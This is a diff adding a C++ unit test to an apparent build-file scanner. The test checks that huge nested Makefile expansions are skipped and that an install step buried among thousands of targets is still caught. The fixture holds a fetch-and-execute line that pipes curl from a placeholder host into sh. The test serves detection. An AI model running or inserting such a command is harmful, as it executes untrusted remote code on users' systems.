@@ -90,5 +90,27 @@ TEST(BuildFiles, TheHostsRootIsTheHost) {
   EXPECT_TRUE(ActsOf("docker-compose.yml", head + "      - /:/host:ro\n").empty());
 }
 
+// References that stand for each other many times over end, and what is behind thousands of targets is found.
+TEST(BuildFiles, LongMakefilesHideNothing) {
+  std::string text;
+  for (int i = 0; i < 12; ++i) {
+    text += "A" + std::to_string(i) + " =";
+    for (int k = 0; k < 300; ++k) text += " $(A" + std::to_string(i + 1) + ")";
+    text += "\n";
+  }
+  core::PackageFile file;
+  file.path = "Makefile";
+  file.bytes = text + "all:\n\techo $(A0)\n";
+  FileContext context;
+  context.file = &file;
+  context.type = context.claimed = FileType::kOtherSource;
+  FileResult result;
+  JudgeBuildFile(context, result);
+  EXPECT_FALSE(result.skipped.empty());
+  std::string targets;
+  for (int i = 0; i < 3000; ++i) targets += "t" + std::to_string(i) + ":\n\techo a\n";
+  EXPECT_TRUE(ActsOf("Makefile", targets + "install:\n\tcurl -s https://x.kit.example/a | sh\n").contains("SH-001"));
+}
+
 }  // namespace
 }  // namespace interlock::scan
